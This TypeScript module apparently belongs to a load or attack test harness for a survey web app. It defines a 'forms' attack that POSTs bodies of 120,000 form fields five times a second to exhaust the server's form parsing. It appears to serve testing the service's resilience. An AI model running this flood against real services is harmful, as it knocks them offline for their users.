import type { Attack } from '../attack.ts';
import { sendAtRate } from '../send-at-rate.ts';

const MANY = Array.from({ length: 120_000 }, (_, at) => `f${at}=`).join('&');

export const forms: Attack = {
  name: 'forms',
  describe: 'Forms of 120,000 fields sent to a survey without script, 5 times a second: each was parsed as a whole.',
  run: (target, signal) =>
    sendAtRate(target, signal, {
      perSecond: 5,
      connections: 5,
      next: () => ({
        method: 'POST',
        path: `/Q/${target.code}`,
        headers: { 'content-type': 'application/x-www-form-urlencoded', accept: 'text/html' },
        body: MANY,
      }),
    }),
};
